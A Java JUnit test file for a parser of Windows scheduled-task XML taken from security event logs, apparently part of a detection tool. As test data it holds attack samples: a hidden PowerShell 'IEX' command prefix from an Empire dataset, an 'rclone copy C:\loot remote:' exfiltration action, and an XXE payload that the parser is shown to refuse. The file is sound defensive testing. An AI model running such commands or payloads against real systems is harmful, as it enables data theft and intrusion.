package dev.cronhound.formats.windows;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronhound.core.event.Event;
import dev.cronhound.core.event.JobAction;
import dev.cronhound.core.event.JobTrigger;
import dev.cronhound.core.event.Origin;
import dev.cronhound.core.event.ScheduledJob;
import dev.cronhound.formats.EventJson;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class TaskDefinitionXmlTest {

  private static final Path MAPPING = WindowsMappingGoldenTest.MAPPING;

  /** The data field {@code field} of the first record with {@code eventId} in a records file. */
  private static String realField(String file, int eventId, String field) {
    return RecordsFile.read(MAPPING.resolve(file)).stream()
        .filter(r -> r.eventId() == eventId)
        .findFirst()
        .orElseThrow()
        .get(field);
  }

  @Test
  void otrfBootTriggerTaskFrom4698() {
    TaskDefinition d =
        TaskDefinitionXml.parse(realField("otrf-schtask-create.records.jsonl", 4698, "TaskContent"));

    assertThat(d.note()).isNull();
    assertThat(d.author()).isEqualTo("THESHIRE\\pgustavo");
    assertThat(d.runAs()).isEqualTo("S-1-5-18");
    assertThat(d.runLevel()).isEqualTo("LeastPrivilege");
    assertThat(d.enabled()).isTrue();
    assertThat(d.actions())
        .containsExactly(
            new JobAction("C:\\Windows\\system32\\cmd.exe", "/C C:\\Windows\\System32\\notepad.exe", null));
    assertThat(d.triggers()).containsExactly(new JobTrigger("boot", "2020-12-19T07:00:00", -1, null));
  }

  @Test
  void otrfDailyCalendarTriggerFromEmpire4698EscapedOnceMore() {
    String content = realField("otrf-empire-schtasks.records.jsonl", 4698, "TaskContent");
    assertThat(content).startsWith("&lt;?xml");

    TaskDefinition d = TaskDefinitionXml.parse(content);

    assertThat(d.note()).isNull();
    assertThat(d.runAs()).isEqualTo("THESHIRE\\pgustavo");
    assertThat(d.triggers()).containsExactly(new JobTrigger("daily", "2020-09-21T09:00:00", 86_400, null));
    assertThat(d.actions()).singleElement().satisfies(a -> {
      assertThat(a.command()).isEqualTo("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
      assertThat(a.arguments()).startsWith("-NonI -W hidden -c \"IEX (");
    });
  }

  @Test
  void otrfTruncated4702ContentIsNotedNotThrown() {
    String content = realField("otrf-schtask-modification.records.jsonl", 4702, "TaskContentNew");
    assertThat(content).doesNotContain("</Task>");

    TaskDefinition d = TaskDefinitionXml.parse(content);

    assertThat(d.note()).startsWith("task definition not read: malformed XML at line 44");
    assertThat(d.actions()).isEmpty();
    assertThat(d.triggers()).isEmpty();
    assertThat(d.enabled()).isNull();
  }

  @Test
  void repetitionWeeklyMonthlyComAndLogonTriggers() {
    String xml =
        """
        <?xml version="1.0" encoding="UTF-16"?>
        <Task version="1.4" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
          <Triggers>
            <TimeTrigger>
              <Repetition><Interval>PT5M</Interval><Duration>P1D</Duration></Repetition>
              <StartBoundary>2024-01-02T03:04:05</StartBoundary>
            </TimeTrigger>
            <CalendarTrigger>
              <StartBoundary>2024-01-01T00:00:00</StartBoundary>
              <ScheduleByWeek><DaysOfWeek><Monday /><Friday /></DaysOfWeek><WeeksInterval>2</WeeksInterval></ScheduleByWeek>
            </CalendarTrigger>
            <CalendarTrigger>
              <Enabled>false</Enabled>
              <ScheduleByMonth><DaysOfMonth><Day>1</Day><Day>15</Day></DaysOfMonth><Months><January /></Months></ScheduleByMonth>
            </CalendarTrigger>
            <LogonTrigger><UserId>CORP\\alice</UserId><Delay>PT30S</Delay></LogonTrigger>
            <IdleTrigger />
          </Triggers>
          <Principals>
            <Principal id="Other"><UserId>S-1-5-19</UserId></Principal>
            <Principal id="Author"><GroupId>S-1-5-32-545</GroupId><RunLevel>HighestAvailable</RunLevel></Principal>
          </Principals>
          <Settings><Enabled>false</Enabled></Settings>
          <Actions Context="Author">
            <ComHandler><ClassId>{47E30D54-DAC1-473A-AFF7-2355BF78881F}</ClassId><Data>x</Data></ComHandler>
            <Exec><Command>rclone.exe</Command><Arguments>copy C:\\loot remote:</Arguments><WorkingDirectory>C:\\t</WorkingDirectory></Exec>
          </Actions>
        </Task>
        """;

    TaskDefinition d = TaskDefinitionXml.parse(xml);

    assertThat(d.note()).isNull();
    assertThat(d.triggers())
        .containsExactly(
            new JobTrigger("time", "2024-01-02T03:04:05", 300, "repetition_duration=P1D"),
            new JobTrigger("weekly", "2024-01-01T00:00:00", 1_209_600, "days_of_week=Monday,Friday"),
            new JobTrigger("monthly", null, -1, "enabled=false;days_of_month=1,15;months=January"),
            new JobTrigger("logon", null, -1, "user=CORP\\alice;delay=PT30S"),
            new JobTrigger("idle", null, -1, null));
    assertThat(d.actions())
        .containsExactly(
            new JobAction("com:{47E30D54-DAC1-473A-AFF7-2355BF78881F}", "x", null),
            new JobAction("rclone.exe", "copy C:\\loot remote:", "C:\\t"));
    assertThat(d.runAs()).isEqualTo("S-1-5-32-545");
    assertThat(d.runLevel()).isEqualTo("HighestAvailable");
    assertThat(d.enabled()).isFalse();
  }

  @Test
  void missingContentIsNoDefinitionAndGarbageIsNoted() {
    assertThat(TaskDefinitionXml.parse(null)).isEqualTo(TaskDefinition.NONE);
    assertThat(TaskDefinitionXml.parse("  ")).isEqualTo(TaskDefinition.NONE);
    assertThat(TaskDefinitionXml.parse("not xml <<").note()).startsWith("task definition not read");
  }

  @Test
  void doctypeAndExternalEntitiesAreRefusedNothingFetchedAndTheJobStillComesOut(@TempDir Path dir)
      throws Exception {
    Path secret = dir.resolve("secret.txt");
    Files.writeString(secret, "TOP-SECRET-CONTENT", StandardCharsets.UTF_8);
    String xxe =
        "<?xml version=\"1.0\"?>\n<!DOCTYPE Task [<!ENTITY xxe SYSTEM \""
            + secret.toUri()
            + "\">]>\n<Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">"
            + "<RegistrationInfo><Author>&xxe;</Author></RegistrationInfo>"
            + "<Actions><Exec><Command>&xxe;</Command></Exec></Actions></Task>";

    assertThat(TaskDefinitionXml.parse(xxe).note())
        .isEqualTo("task definition refused: document type declaration");

    WindowsRecord r =
        new WindowsRecord(
            7, 1_700_000_000_000_000L, "Microsoft-Windows-Security-Auditing", "Security", "WS1", 4698, 1,
            -1, -1, null,
            Map.of("TaskName", "\\Evil", "SubjectUserName", "bob", "SubjectDomainName", "CORP", "TaskContent", xxe),
            new Origin("t", 1));
    List<Event> out = new ArrayList<>();
    WindowsEventMapper mapper = new WindowsEventMapper(out::add);
    mapper.accept(r);

    assertThat(mapper.mapped()).isEqualTo(1);
    ScheduledJob job = (ScheduledJob) out.get(0);
    assertThat(job.name()).isEqualTo("\\Evil");
    assertThat(job.actor()).isEqualTo("CORP\\bob");
    assertThat(job.actions()).isEmpty();
    assertThat(job.note()).isEqualTo("task definition refused: document type declaration");
    assertThat(EventJson.toJson(job)).doesNotContain("TOP-SECRET");
  }
}
